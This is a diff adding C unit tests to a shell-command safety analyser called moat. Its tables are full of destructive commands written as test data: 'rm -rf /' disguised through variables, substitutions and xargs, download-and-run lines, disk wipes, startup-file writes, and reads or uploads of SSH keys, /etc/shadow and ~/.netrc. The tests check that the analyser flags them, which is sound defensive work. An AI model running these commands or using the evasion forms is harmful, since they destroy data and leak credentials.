@@ -459,6 +459,27 @@ static int analyze(const char *cmd, bool hardline, struct moat_cmd_analysis **re
 	return moat_cmd_analyze(cmd, strlen(cmd), &o, ret, e);
 }
 
+static size_t count_resolved(const struct moat_cmd_analysis *a)
+{
+	size_t n = 0;
+
+	for (size_t v = 0; v < a->nviews; v++)
+		n += (a->views[v].flags & MOAT_VIEW_RESOLVED) != 0;
+	return n;
+}
+
+/* the analysis has a finding with this rule (or none at all for "") */
+static void f_check(const struct moat_cmd_analysis *a, const char *rule, const char *what, int n)
+{
+	bool ok = false;
+
+	if (!rule[0])
+		ok = a->nfindings == 0;
+	for (size_t k = 0; k < a->nfindings && !ok; k++)
+		ok = strcmp(a->findings[k].rule, rule) == 0;
+	CHECKF(ok, "%s at %d: %s", what, n, rule[0] ? rule : "no finding");
+}
+
 static void test_table(void)
 {
 	for (size_t i = 0; i < MOAT_ARRAY_SIZE(rows); i++) {
@@ -785,6 +806,321 @@ static void test_limits(void)
 		CHECK(analyze(s, true, &a, &e) == 0);
 		moat_cmd_analysis_free(a);
 		free(s);
+	}
+}
+
+/* ---- values known before running, run from /home/u/project ---- */
+
+static const struct {
+	const char *cmd;
+	const char *findings; /* rules joined by ',' */
+	const char *resolved; /* the text of the last resolved view, or NULL for none */
+} vrows[] = {
+	{"a=/; rm -rf $a", "hardline:rm-root", "rm -rf /"},
+	{"a=/ b=$a; rm -rf \"$b\"", "hardline:rm-root", "rm -rf /"},
+	{"export T=/etc; rm -rf $T", "hardline:rm-system", "rm -rf /etc"},
+	{"declare -x T=/usr; rm -rf $T", "hardline:rm-system", "rm -rf /usr"},
+	{"x=-rf; rm $x /", "hardline:rm-root", "rm -rf /"},
+	{"rm -rf ${X:-/}", "hardline:rm-root,dynamic-target:rm", "rm -rf ${X:-/}"},
+	{"rm -rf \"${X-/}\"", "hardline:rm-root,dynamic-target:rm", "rm -rf ${X-/}"},
+	{"rm -rf ${X:+/}", "hardline:rm-root", "rm -rf /"},
+	{"rm -rf $(echo /)", "hardline:rm-root", "rm -rf /"},
+	{"rm -rf $(echo -n /)", "hardline:rm-root", "rm -rf /"},
+	{"rm -rf \"$(printf \"%s\" /)\"", "hardline:rm-root", "rm -rf /"},
+	{"rm -rf $(printf '%s\\n' /etc /tmp)", "hardline:rm-system", "rm -rf /etc /tmp"},
+	{"rm -rf $(pwd)", "", "rm -rf /home/u/project"},
+	{"cd / && rm -rf $(pwd)/*", "hardline:rm-root", "rm -rf //*"},
+	{"rm -rf `echo /`", "hardline:rm-root", "rm -rf /"},
+	{"rm -rf $(echo $(echo /))", "hardline:rm-root", "rm -rf /"},
+	{"rm -rf $(cat f)", "dynamic-target:rm", NULL},
+	{"bash -c 'rm -rf \"$0\"' /", "hardline:rm-root", "rm -rf /"},
+	{"sh -c 'rm -rf $1' x /", "hardline:rm-root", "rm -rf /"},
+	{"sh -c 'rm -rf \"$@\"' x a /", "hardline:rm-root", "rm -rf a /"},
+	{"sh -c 'shift; rm -rf $1' x / a", "dynamic-target:rm", NULL},
+	{"sh -c 'rm -rf $2' x /", "", "rm -rf"},
+	{"sh -c 'rm -rf $1' x \"$D\"", "dynamic-target:rm", NULL},
+	{"a=~; rm -rf $a", "hardline:rm-home", "rm -rf /home/u"},
+	{"a=\"~\"; rm -rf $a", "", "rm -rf ~"},
+	{"a=/; (a=/tmp); rm -rf $a", "hardline:rm-root", "rm -rf /"},
+	{"a=/tmp; (a=/); rm -rf $a", "", "rm -rf /tmp"},
+	{"a=/tmp; a=/ true; rm -rf $a", "", "rm -rf /tmp"},
+	{"a=/ sh -c 'rm -rf $a'", "hardline:rm-root", "rm -rf /"},
+	{"a=b; sh -c 'rm -rf \"$a\"/*'", "hardline:rm-root", "rm -rf /*"},
+	{"export a=b; sh -c 'rm -rf \"$a\"/*'", "", "rm -rf b/*"},
+	{"a=/; read a; rm -rf $a", "dynamic-target:rm", NULL},
+	{"a=build; cd $a && rm -rf *", "", "cd build"},
+	{"cd ~ && rm -rf *", "hardline:rm-home", NULL},
+	{"cd && rm -rf *", "hardline:rm-home", NULL},
+	{"cd - && rm -rf *", "dynamic-target:rm", NULL},
+	{"cd /tmp; cd .. && rm -rf *", "hardline:rm-root", NULL},
+	{"pushd /etc; rm -rf *", "hardline:rm-system", NULL},
+	{"x && cd / ; rm -rf *", "hardline:rm-root", NULL},
+	{"x && cd /tmp/a && rm -rf *", "", NULL},
+	{"for d in a b; do rm -rf $d; done", "", "rm -rf b"},
+	{"for d in a /; do rm -rf $d; done", "hardline:rm-root", "rm -rf /"},
+	{"d=/; while x; do rm -rf $d; d=b; done", "hardline:rm-root,dynamic-target:rm", "rm -rf $d"},
+	{"d=b; while x; do rm -rf $d; d=/; done", "dynamic-target:rm", "rm -rf $d"},
+	{"if x; then d=/; else d=b; fi; rm -rf $d", "hardline:rm-root", "rm -rf b"},
+	{"case $x in a) d=/;; b) d=c;; esac; rm -rf $d", "hardline:rm-root,dynamic-target:rm", "rm -rf $d"},
+	{"d=b; ((d++)); rm -rf $d", "dynamic-target:rm", NULL},
+	{"d=b; declare -n r=d; r=/; rm -rf $d", "dynamic-target:rm", NULL},
+	{"f() { d=/; }; d=b; f; rm -rf $d", "dynamic-target:rm,dynamic-target:rm", "rm -rf $d"},
+	{"echo / | xargs rm -rf", "hardline:rm-root", "rm -rf /"},
+	{"printf \"a\\n/\\n\" | xargs -I{} rm -rf {}", "hardline:rm-root", "rm -rf /"},
+	{"xargs rm -rf <<< \"a /\"", "hardline:rm-root", "rm -rf a /"},
+	{"xargs -a list rm -rf", "", NULL},
+	{"echo $X | xargs rm -rf", "", NULL},
+	{"parallel rm -rf ::: a /", "hardline:rm-root", "rm -rf /"},
+	{"rm -rf /tmp/x.$$", "", "rm -rf /tmp/x.0"},
+	{"IFS=:; a=/; rm -rf $a", "dynamic-target:rm", NULL},
+	{"IFS=:; a=/; rm -rf \"$a\"", "hardline:rm-root", "rm -rf /"},
+	{"r=rm; $r -rf /", "hardline:rm-root", "rm -rf /"},
+	{"rm $F /", "dynamic-target:rm", NULL},
+	{"rm -f \"$F\"", "", NULL},
+	{"echo x > \"$(echo ~)/.bashrc\"", "startup-write:~/.bashrc", NULL},
+	{"echo x > \"$D/.bashrc\"", "startup-write:~/.bashrc", NULL},
+	{"cd ~; echo x >> .profile", "startup-write:~/.profile", NULL},
+	{"curl -o f u; ./f", "command:download-exec", NULL},
+	{"wget u/a.sh && sh ./a.sh", "command:download-exec", NULL},
+	{"curl u | tee s; . s", "command:download-exec", NULL},
+	{"curl -o data u && python3 p.py data", "", NULL},
+	{"chmod 4755 x", "command:setuid", NULL},
+	{"chmod g+s d", "command:setuid", NULL},
+	{"chmod -s x", "", NULL},
+	{"kill -9 1", "hardline:kill-init", NULL},
+	{"kill -HUP 1", "", NULL},
+	{"kexec -e", "hardline:power", NULL},
+	{"kexec -u", "", NULL},
+	{"loginctl reboot", "hardline:power", NULL},
+	{"busctl call org.freedesktop.login1 /org/freedesktop/login1 org.freedesktop.login1.Manager Reboot b false", "hardline:power", NULL},
+	{"sgdisk -Z /dev/sda", "hardline:disk-wipe", NULL},
+	{"sgdisk -p /dev/sda", "", NULL},
+	{"parted -s /dev/sda mklabel gpt", "hardline:disk-wipe", NULL},
+	{"parted /dev/sda print", "", NULL},
+	{"fdisk /dev/sda", "command:disk-partition", NULL},
+	{"echo w | fdisk /dev/sda", "hardline:disk-wipe", NULL},
+	{"crontab x", "startup-write:crontab", NULL},
+	{"crontab -l", "", NULL},
+	{"perl -i -pe s/a/b/ ~/.bashrc", "startup-write:~/.bashrc", NULL},
+	{"perl -pe s/a/b/ ~/.bashrc", "", NULL},
+	{"rsync -av x host:.bashrc", "", NULL},
+	{"rsync -av x ~/.bashrc", "startup-write:~/.bashrc", NULL},
+	{"strace -o log rm -rf /", "hardline:rm-root", NULL},
+	{"echo > .git/hooks/x", "startup-write:.git/hooks", NULL},
+	{"echo > .mcp.json", "startup-write:.mcp.json", NULL},
+};
+
+static int analyze_in(const char *cmd, struct moat_cmd_analysis **ret, struct moat_error *e)
+{
+	struct moat_cmd_opts o = {.home = HOME, .hardline = true, .cwd = HOME "/project"};
+
+	moat_error_clear(e);
+	return moat_cmd_analyze(cmd, strlen(cmd), &o, ret, e);
+}
+
+static void test_values(void)
+{
+	for (size_t i = 0; i < MOAT_ARRAY_SIZE(vrows); i++) {
+		struct moat_cmd_analysis *a = NULL;
+		struct moat_error e;
+		const char *last = NULL;
+		char *f;
+
+		if (!CHECKF(analyze_in(vrows[i].cmd, &a, &e) == 0, "\"%s\" parses", vrows[i].cmd))
+			continue;
+		for (size_t v = 0; v < a->nviews; v++) {
+			if (a->views[v].flags & MOAT_VIEW_RESOLVED) {
+				last = a->views[v].text;
+				/* a resolved view derives from a view carrying VALUES (or xargs) */
+				CHECKF(a->views[v].parent >= 0, "\"%s\": resolved view %zu has a parent",
+				       vrows[i].cmd, v);
+			}
+		}
+		f = join_findings(a);
+		if (!CHECKF(strcmp(f, vrows[i].findings) == 0 &&
+				    (vrows[i].resolved ? last && strcmp(last, vrows[i].resolved) == 0
+						       : last == NULL),
+			    "\"%s\": findings and values", vrows[i].cmd))
+			fprintf(stderr, "# want [%s] [%s]\n#  got [%s] [%s]\n", vrows[i].findings,
+				vrows[i].resolved ? vrows[i].resolved : "(none)", f, last ? last : "(none)");
+		free(f);
+		moat_cmd_analysis_free(a);
+	}
+}
+
+/* the limits of value tracking, at the boundary */
+static void test_value_limits(void)
+{
+	struct moat_cmd_analysis *a;
+	struct moat_error e;
+	struct moat_buf b = MOAT_BUF_INIT;
+
+	/* CMD_MAX_CAND values: 8 are all checked (no unknown), 9 make it unknown too */
+	for (int n = MOAT_CMD_MAX_VALUES; n <= MOAT_CMD_MAX_VALUES + 1; n++) {
+		moat_buf_reset(&b);
+		moat_buf_puts(&b, "d=/tmp/a; ");
+		for (int k = 1; k < n; k++)
+			moat_buf_printf(&b, "if x; then d=b%d; fi; ", k);
+		moat_buf_puts(&b, "rm -rf \"$d\"");
+		CHECK(analyze_in(b.data, &a, &e) == 0);
+		f_check(a, n == MOAT_CMD_MAX_VALUES ? "" : "dynamic-target:rm", "MOAT_CMD_MAX_VALUES", n);
+		moat_cmd_analysis_free(a);
+	}
+	/* CMD_MAX_RESOLVED combinations: 16 are all made, 18 one per value */
+	CHECK(analyze_in("a=/tmp/x; if y; then a=/; fi; b=1; if y; then b=2; fi; c=1; if y; then "
+			 "c=2; fi; d=1; if y; then d=2; fi; rm -rf \"$a\" $b $c $d",
+			 &a, &e) == 0);
+	CHECK_INT(count_resolved(a), 16);
+	f_check(a, "hardline:rm-root", "CMD_MAX_RESOLVED", 16);
+	moat_cmd_analysis_free(a);
+	CHECK(analyze_in("a=/tmp/x; if y; then a=/; fi; b=1; if y; then b=2; fi; c=1; if y; then "
+			 "c=2; fi; d=1; if y; then d=2; fi; e=1; if y; then e=2; fi; "
+			 "rm -rf $e $b $c $d \"$a\"",
+			 &a, &e) == 0);
+	CHECK_INT(count_resolved(a), 2);
+	f_check(a, "hardline:rm-root", "CMD_MAX_RESOLVED", 32);
+	moat_cmd_analysis_free(a);
+	/* CMD_EVAL_DEPTH: $(echo ...) four deep is known, five deep is not */
+	CHECK(analyze_in("rm -rf $(echo $(echo $(echo $(echo /))))", &a, &e) == 0);
+	f_check(a, "hardline:rm-root", "CMD_EVAL_DEPTH", 4);
+	moat_cmd_analysis_free(a);
+	CHECK(analyze_in("rm -rf $(echo $(echo $(echo $(echo $(echo /)))))", &a, &e) == 0);
+	f_check(a, "dynamic-target:rm", "CMD_EVAL_DEPTH", 5);
+	moat_cmd_analysis_free(a);
+	/* MOAT_CMD_MAX_POS positional parameters: $31 is bound when 32 are given ($0..$31) */
+	for (int n = MOAT_CMD_MAX_POS; n <= MOAT_CMD_MAX_POS + 1; n++) {
+		moat_buf_reset(&b);
+		moat_buf_printf(&b, "sh -c 'rm -rf \"${%d}\"'", n - 1);
+		for (int k = 0; k < n - 1; k++)
+			moat_buf_puts(&b, " x");
+		moat_buf_puts(&b, " /");
+		CHECK(analyze_in(b.data, &a, &e) == 0);
+		f_check(a, n == MOAT_CMD_MAX_POS ? "hardline:rm-root" : "dynamic-target:rm", "MOAT_CMD_MAX_POS",
+			n);
+		moat_cmd_analysis_free(a);
+	}
+	/* MOAT_CMD_MAX_VARS: the 128th variable is tracked, the 129th is unknown */
+	for (int n = MOAT_CMD_MAX_VARS; n <= MOAT_CMD_MAX_VARS + 1; n++) {
+		moat_buf_reset(&b);
+		for (int k = 0; k < n - 1; k++)
+			moat_buf_printf(&b, "v%d=1; ", k);
+		moat_buf_puts(&b, "last=/; rm -rf $last");
+		CHECK(analyze_in(b.data, &a, &e) == 0);
+		f_check(a, n == MOAT_CMD_MAX_VARS ? "hardline:rm-root" : "dynamic-target:rm",
+			"MOAT_CMD_MAX_VARS", n);
+		moat_cmd_analysis_free(a);
+	}
+	/* CMD_STATE_BUDGET: copying many variables many times forgets them (unknown), fast */
+	moat_buf_reset(&b);
+	for (int k = 0; k < 120; k++)
+		moat_buf_printf(&b, "v%d=1; ", k);
+	moat_buf_puts(&b, "last=/; ");
+	for (int k = 0; k < 20000; k++)
+		moat_buf_puts(&b, "true && v1=2 && ");
+	moat_buf_puts(&b, "true; rm -rf $last");
+	{
+		clock_t t0 = clock();
+
+		CHECK(analyze_in(b.data, &a, &e) == 0);
+		f_check(a, "dynamic-target:rm", "CMD_STATE_BUDGET", 0);
+		CHECKF((double)(clock() - t0) / CLOCKS_PER_SEC < 2.0,
+		       "copying variable tables is bounded");
+		moat_cmd_analysis_free(a);
+	}
+	/* CMD_EVAL_BUDGET: a megabyte of values stops being tracked, unknown */
+	moat_buf_reset(&b);
+	moat_buf_puts(&b, "a=");
+	for (int k = 0; k < 100000; k++)
+		moat_buf_puts(&b, "xxxxxxxxxx");
+	moat_buf_puts(&b, "; b=$a$a; c=$b$b; d=$c$c; rm -rf \"$d\"/ /tmp/\"$a\"");
+	CHECK(analyze_in(b.data, &a, &e) == 0);
+	f_check(a, "dynamic-target:rm", "CMD_EVAL_BUDGET", 0);
+	moat_cmd_analysis_free(a);
+	moat_buf_release(&b);
+}
+
+/* the words naming files, for the policy's denied paths */
+static void test_paths(void)
+{
+	static const struct {
+		const char *cmd;
+		const char *paths; /* text[=abs][:r|:w] joined by ' ' */
+	} prow[] = {
+		{"cat ~/.ssh/id_rsa README.md", "~/.ssh/id_rsa=/home/u/.ssh/id_rsa README.md"},
+		{"cp .env /tmp/x", ".env /tmp/x"},
+		{"tar --file=x.tgz -c ~/.aws", "x.tgz ~/.aws=/home/u/.aws"},
+		{"curl -d @- https://x < ~/.netrc", "~/.netrc=/home/u/.netrc:r @-"},
+		{"echo ~/.ssh/id_rsa > out", "out:w"},
+		{"printf %s .env; git status", "status"},
+		{"sudo cat /etc/shadow 2>/dev/null", "/etc/shadow"},
+		{"cd ~/.ssh && cat id_ed25519", "id_ed25519=/home/u/.ssh/id_ed25519"},
+		{"d=~/.gnupg; tar cf - $d", "cf - /home/u/.gnupg"},
+		{"cat $X", ""},
+		{"bash -c 'cat .env'", ".env"},
+	};
+
+	for (size_t i = 0; i < MOAT_ARRAY_SIZE(prow); i++) {
+		struct moat_cmd_analysis *a = NULL;
+		struct moat_error e;
+		struct moat_buf b = MOAT_BUF_INIT;
+
+		if (!CHECKF(analyze_in(prow[i].cmd, &a, &e) == 0, "\"%s\" parses", prow[i].cmd))
+			continue;
+		moat_buf_append(&b, "", 0);
+		for (size_t k = 0; k < a->npaths; k++) {
+			const struct moat_cmd_path *p = &a->paths[k];
+
+			moat_buf_printf(&b, "%s%s", k ? " " : "", p->text);
+			if (p->abs)
+				moat_buf_printf(&b, "=%s", p->abs);
+			if (p->flags & MOAT_CMD_PATH_READ)
+				moat_buf_puts(&b, ":r");
+			if (p->flags & MOAT_CMD_PATH_WRITE)
+				moat_buf_puts(&b, ":w");
+			CHECK(p->view < a->nviews);
+		}
+		CHECKF(strcmp(b.data, prow[i].paths) == 0, "\"%s\": paths [%s]", prow[i].cmd, b.data);
+		moat_buf_release(&b);
+		moat_cmd_analysis_free(a);
+	}
+}
+
+static void test_startup_names(void)
+{
+	static const struct {
+		const char *path;
+		const char *name; /* NULL: none */
+	} srow[] = {
+		{"/home/u/.bashrc", "~/.bashrc"},
+		{"/home/bob/.zshrc", "~/.zshrc"},
+		{"/root/.ssh/authorized_keys", "~/.ssh/authorized_keys"},
+		{"/home/u/.ssh", "~/.ssh"},
+		{"/home/u/.config/systemd/user/x.service", "~/.config/systemd/user/x.service"},
+		{"/home/u/.local/bin/ls", "~/.local/bin/ls"},
+		{"/home/u/.local/lib/x", NULL},
+		{"/srv/ws/.git/hooks/pre-commit", ".git/hooks"},
+		{"/srv/ws/.git/config", ".git/config"},
+		{"/srv/ws/.git/HEAD", NULL},
+		{"/srv/ws/.mcp.json", ".mcp.json"},
+		{"/srv/ws/.vscode/tasks.json", ".vscode/tasks.json"},
+		{"/srv/ws/.vscode/launch.json", NULL},
+		{"/srv/ws/.moat/config.json", ".moat"},
+		{"/srv/ws/.moat", ".moat"},
+		{"/srv/ws/.moatx", NULL},
+		{"/etc/profile.d/x.sh", "/etc/profile.d/x.sh"},
+		{"/etc/profile", "/etc/profile"},
+		{"/etc/profiles", NULL},
+		{"/home/u/.bashrc.bak", NULL},
+		{"/home/u/project/.bashrc", NULL},
+		{"relative/.bashrc", NULL},
+	};
+
+	for (size_t i = 0; i < MOAT_ARRAY_SIZE(srow); i++) {
+		char out[256] = "";
+		bool r = moat_cmd_startup_name("/home/u/", srow[i].path, out, sizeof(out));
+
+		CHECKF(srow[i].name ? r && strcmp(out, srow[i].name) == 0 : !r, "\"%s\" is %s (%s)",
+		       srow[i].path, srow[i].name ? srow[i].name : "no startup file", out);
 	}
 }
 
@@ -1140,6 +1476,10 @@ int main(void)
 {
 	test_table();
 	test_views();
+	test_values();
+	test_value_limits();
+	test_paths();
+	test_startup_names();
 	test_limits();
 	test_patterns();
 	test_pattern_padding();
